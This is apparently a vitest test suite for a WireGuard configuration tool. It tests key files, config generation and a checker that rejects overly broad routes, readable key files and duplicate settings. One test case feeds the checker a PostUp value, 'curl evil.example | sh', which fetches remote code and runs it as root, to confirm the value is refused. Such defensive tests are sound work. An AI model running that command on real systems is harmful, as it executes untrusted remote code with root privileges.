import { execFileSync, spawnSync } from 'node:child_process';
import { chmod, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fromBase64, fromHex, systemRandom, toBase64, utf8 } from '@millrace/base';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { blockIn } from '../src/wireguard/address.ts';
import { checkTunnel, type Expected } from '../src/wireguard/check.ts';
import { wireGuard } from '../src/wireguard/command.ts';
import { keyFromText, keyToText, publicKeyOf, publicText } from '../src/wireguard/keys.ts';
import { checkRunning } from '../src/wireguard/running.ts';

const has = (command: string) => spawnSync('which', [command]).status === 0;

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'millrace tunnel '));
});
afterEach(() => rm(folder, { recursive: true, force: true }));
const at = (name: string) => join(folder, name);
const makeKey = async (name: string) => (await wireGuard(['key', at(name)])).trim();

/** Both sides, as their administrators make them. */
async function bothSides() {
  const [site, cloud] = [await makeKey('site.key'), await makeKey('cloud.key')];
  const own = ['--key', at('site.key'), '--address', '10.7.0.2', '--to', at('millrace.conf')];
  const peer = ['--cloud-key', cloud, '--cloud-address', '10.7.0.1', '--endpoint', 'cloud.example:51820'];
  await wireGuard(['site', ...own, ...peer]);
  const port = ['--port', '51820', '--site', `${site}=10.7.0.2`];
  await wireGuard(['cloud', '--key', at('cloud.key'), '--address', '10.7.0.1', ...port, '--to', at('sites.conf')]);
  return { site, cloud };
}

describe('a key', () => {
  it('has the public key of RFC 7748, 6.1', () => {
    const secret = fromHex('5dab087e624a8a4b79e17f8b83800ee66f3bb1292618b6fd1c2f8b27ff88e0eb');
    expect(publicKeyOf(secret)).toEqual(fromHex('de9edb7d7b7dc1b4d35b61c2ece435373f8343c85b78674dadfc7e146f882b4f'));
  });

  it('is written and read as base64, and in no other form', () => {
    for (let turn = 0; turn < 50; turn++) {
      const key = systemRandom(32);
      expect(publicText(key)).toBe(toBase64(key));
      expect(keyFromText(keyToText(key))).toEqual(key);
    }
    const text = toBase64(new Uint8Array(32));
    for (const wrong of ['', text.slice(1), `${text}=`, text.replace('A', '!'), `${text.slice(0, 42)}B=`])
      expect(keyFromText(utf8(wrong)), wrong).toBeUndefined();
  });

  it('is made in a new file that only its owner may read', async () => {
    const shown = await makeKey('site.key');
    expect((await stat(at('site.key'))).mode & 0o777).toBe(0o600);
    const text = await readFile(at('site.key'), 'utf8');
    expect(toBase64(publicKeyOf(keyFromText(utf8(text.trim())) ?? new Uint8Array()))).toBe(shown);
    await expect(makeKey('site.key')).rejects.toMatchObject({ code: 'E_CONFLICT' });
  });

  it.skipIf(!has('wg'))('is the one that wg computes', async () => {
    for (let turn = 0; turn < 5; turn++) {
      const shown = await makeKey(`${turn}.key`);
      const input = await readFile(at(`${turn}.key`));
      expect(execFileSync('wg', ['pubkey'], { input }).toString().trim()).toBe(shown);
    }
  });
});

describe('the configurations of both sides', () => {
  it('reach each other’s addresses only, and pass the check', async () => {
    const { site, cloud } = await bothSides();
    const written = await readFile(at('millrace.conf'), 'utf8');
    const key = (await readFile(at('site.key'), 'utf8')).trim();
    expect(written).toBe(
      `[Interface]\nPrivateKey = ${key}\nAddress = 10.7.0.2\n\n[Peer]\nPublicKey = ${cloud}\nAllowedIPs = 10.7.0.1\n` +
        'Endpoint = cloud.example:51820\nPersistentKeepalive = 25\n',
    );
    expect((await stat(at('millrace.conf'))).mode & 0o777).toBe(0o600);
    expect(await wireGuard(['check', at('millrace.conf'), '--cloud-address', '10.7.0.1'])).toContain('1 peers');
    expect(await readFile(at('sites.conf'), 'utf8')).toContain(`PublicKey = ${site}\nAllowedIPs = 10.7.0.2\n`);
    expect(await wireGuard(['check', at('sites.conf'), '--side', 'cloud'])).toContain('1 peers');
  });

  it.skipIf(!has('wg-quick'))('are what wg-quick reads', async () => {
    const { cloud } = await bothSides();
    const stripped = execFileSync('wg-quick', ['strip', at('millrace.conf')]).toString();
    expect(stripped).toContain(`PublicKey = ${cloud}`);
    expect(stripped).not.toContain('Address');
  });

  it('are not written with more than the cloud’s addresses, unless that is asked for', async () => {
    const cloud = await makeKey('cloud.key');
    await makeKey('site.key');
    const own = ['site', '--key', at('site.key'), '--address', '10.7.0.2', '--cloud-key', cloud];
    const to = ['--endpoint', 'cloud.example:51820', '--to', at('a.conf')];
    for (const wide of ['0.0.0.0/0', '::/0', '10.7.0.1,0.0.0.0/0', 'cloud.example', '10.7.0.1/24'])
      await expect(wireGuard([...own, '--cloud-address', wide, ...to]), wide).rejects.toMatchObject({
        code: 'E_INPUT',
      });
    await wireGuard([...own, '--all-traffic', ...to]);
    expect(await readFile(at('a.conf'), 'utf8')).toContain('AllowedIPs = 0.0.0.0/0, ::/0');
    await expect(wireGuard(['check', at('a.conf')])).rejects.toMatchObject({ code: 'E_CONFIG' });
    await wireGuard(['check', at('a.conf'), '--all-traffic']);
  });
});

describe('the check', () => {
  const secret = toBase64(systemRandom(32));
  const peerKey = toBase64(publicKeyOf(systemRandom(32)));
  const site = { Interface: { PrivateKey: secret, Address: '10.7.0.2/24' }, Peer: peer({}) };
  function peer(change: Record<string, string | undefined>) {
    const usual = {
      PublicKey: peerKey,
      AllowedIPs: '10.7.0.1/32',
      Endpoint: 'c.example:51820',
      PersistentKeepalive: '25',
    };
    return { ...usual, ...change };
  }
  type Sections = Record<'Interface' | 'Peer', Record<string, string | undefined>>;
  const fileOf = (sections: Sections) =>
    utf8(
      Object.entries(sections)
        .map(([name, lines]) => {
          const written = Object.entries(lines).flatMap(([key, value]) =>
            value === undefined ? [] : [`${key}=${value}`],
          );
          return `[${name}]\n${written.join('\n')}\n`;
        })
        .join('\n'),
    );
  const findings = (sections: Sections, expected: Expected = { side: 'site' }) =>
    checkTunnel(fileOf(sections), expected).findings.join('; ');

  it('accepts what people write by hand', () => {
    expect(findings(site)).toBe('');
    const text = `# to the cloud\n[interface]\nprivatekey=${secret}\r\nADDRESS = 10.7.0.2/24, fd00::2/64\n\n[Peer]\npublickey = ${peerKey} # cloud\nAllowedIPs = 10.7.0.1/32\nAllowedIPs = fd00::1/128\nEndpoint = [2001:db8::1]:51820\nPersistentKeepalive = 25`;
    expect(checkTunnel(utf8(text), { side: 'site' })).toEqual({
      findings: [],
      publicKey: publicText(publicKeyOf(keyFromText(utf8(secret)) ?? new Uint8Array())),
      peers: [{ publicKey: peerKey, allowed: ['10.7.0.1/32', 'fd00::1/128'] }],
    });
  });

  it.each<[string, Record<string, string | undefined>, Record<string, string | undefined>, string]>([
    ['a default route', {}, { AllowedIPs: '0.0.0.0/0' }, 'everything'],
    [
      'a default route in two halves',
      {},
      { AllowedIPs: '0.0.0.0/1, 128.0.0.0/1' },
      'more than the cloud’s own addresses',
    ],
    ['a whole network', {}, { AllowedIPs: '10.0.0.0/8' }, 'more than the cloud’s own addresses'],
    ['bits behind the prefix', {}, { AllowedIPs: '10.7.0.1/24' }, 'no block of addresses'],
    ['a command that runs as root', { PostUp: 'curl evil.example | sh' }, {}, 'postup: not a setting'],
    ['names that are looked up elsewhere', { DNS: '10.7.0.1' }, {}, 'dns: not a setting'],
    ['an open port at the site', { ListenPort: '51820' }, {}, 'needs no open port'],
    ['no address', { Address: undefined }, {}, 'Address is missing'],
    ['no private key', { PrivateKey: undefined }, {}, 'PrivateKey is missing'],
    ['a private key with a character too few', { PrivateKey: secret.slice(1) }, {}, 'PrivateKey is missing or no key'],
    ['no public key', {}, { PublicKey: undefined }, 'PublicKey is missing'],
    ['its own key as its peer’s', {}, { PublicKey: toBase64(publicKeyOf(fromBase64(secret))) }, 'of this side'],
    ['no sign of life through NAT', {}, { PersistentKeepalive: undefined }, 'PersistentKeepalive'],
    ['no endpoint', {}, { Endpoint: undefined }, 'Endpoint is missing'],
    ['a wrong endpoint', {}, { Endpoint: 'c.example' }, 'Endpoint is no address'],
    ['a preshared key that is none', {}, { PresharedKey: 'x' }, 'PresharedKey is no key'],
  ])('finds %s', (_, own, other, finding) => {
    const found = findings({ Interface: { ...site.Interface, ...own }, Peer: peer(other) });
    expect(found).toContain(finding);
    expect(found).not.toContain(secret.slice(1, 40));
  });

  it('compares with the cloud’s addresses where they are known', () => {
    const cloud = ['10.7.0.0/30'].map((text) => blockIn(text) as NonNullable<ReturnType<typeof blockIn>>);
    expect(findings(site, { side: 'site', cloud })).toBe('');
    const elsewhere = { ...site, Peer: peer({ AllowedIPs: '10.7.0.9/32' }) };
    expect(findings(elsewhere, { side: 'site', cloud })).toContain('more than the cloud’s own addresses');
  });

  it('finds sites of one cloud that overlap, and a cloud without a port', () => {
    const own = `[Interface]\nPrivateKey=${secret}\nAddress=10.7.0.1\n`;
    const site = (address: string) => `[Peer]\nPublicKey=${toBase64(systemRandom(32))}\nAllowedIPs=${address}\n`;
    const two = (a: string, b: string) => checkTunnel(utf8(own + site(a) + site(b)), { side: 'cloud' }).findings;
    expect(two('10.7.0.2', '10.7.0.3')).toEqual(['ListenPort is missing or no port']);
    expect(two('10.7.0.2', '10.7.0.2/32').join()).toContain('overlap');
  });

  it('refuses a file that others may read, or that is no configuration', async () => {
    await bothSides();
    await chmod(at('millrace.conf'), 0o644);
    await expect(wireGuard(['check', at('millrace.conf')])).rejects.toThrow('others may read');
    for (const wrong of ['PrivateKey', '[Other]\nA=b', `[Interface]\nPrivateKey=${secret}\nPrivateKey=${secret}`]) {
      await writeFile(at('x.conf'), wrong, { mode: 0o600 });
      const error = await wireGuard(['check', at('x.conf')]).catch((thrown: Error) => thrown);
      expect(error).toMatchObject({ code: 'E_CONFIG' });
      expect(String(error)).not.toContain(secret);
    }
  });

  it.each(['ListenPort', 'MTU', 'PublicKey', 'Endpoint', 'PersistentKeepalive'])(
    'refuses a second %s, which wg-quick would use instead of the first',
    async (name) => {
      await bothSides();
      const written = await readFile(at('millrace.conf'), 'utf8');
      const [own = '', peer = ''] = written.split('[Peer]');
      const twice = `${name} = 1\n${name.toLowerCase()}=2\n`;
      const isOwn = ['ListenPort', 'MTU'].includes(name);
      const lines = peer
        .split('\n')
        .filter((line) => !line.startsWith(name))
        .join('\n');
      await writeFile(at('x.conf'), isOwn ? `${own}${twice}[Peer]${peer}` : `${own}[Peer]${lines}${twice}`, {
        mode: 0o600,
      });
      await expect(wireGuard(['check', at('x.conf')])).rejects.toThrow(`a second ${name.toLowerCase()}`);
      const list = `${own}Address = 10.7.0.3\n[Peer]${peer}`;
      await writeFile(at('x.conf'), list, { mode: 0o600 });
      expect(await wireGuard(['check', at('x.conf'), '--cloud-address', '10.7.0.1'])).toContain('1 peers');
    },
  );

  it('compares a running interface with its configuration', async () => {
    const checked = checkTunnel(fileOf(site), { side: 'site' });
    const running = { 'public-key': `${checked.publicKey}\n`, 'allowed-ips': `${peerKey}\t10.7.0.1/32\n` };
    const shows = (change: Partial<Record<'public-key' | 'allowed-ips', string>>, handshake = '1800000000') =>
      checkRunning('millrace', checked, 1_800_000_030_000, async (_, what) =>
        what === 'latest-handshakes' ? `${peerKey}\t${handshake}\n` : { ...running, ...change }[what],
      );
    expect(await shows({})).toEqual({ findings: [], said: [`${peerKey}: handshake 30 s ago`] });
    expect((await shows({}, '0')).said).toEqual([`${peerKey}: no handshake yet`]);
    const found = async (change: Parameters<typeof shows>[0]) => (await shows(change)).findings.join();
    expect(await found({ 'public-key': 'other\n' })).toContain('another key');
    expect(await found({ 'allowed-ips': `${peerKey}\t10.7.0.1/32 0.0.0.0/0\n` })).toContain('other addresses');
    expect(await found({ 'allowed-ips': `${peerKey}\t(none)\n` })).toContain('other addresses');
    const another = toBase64(systemRandom(32));
    expect(await found({ 'allowed-ips': `${another}\t10.7.0.3/32\n` })).toMatch(/has no peer .*has another peer/);
  });
});
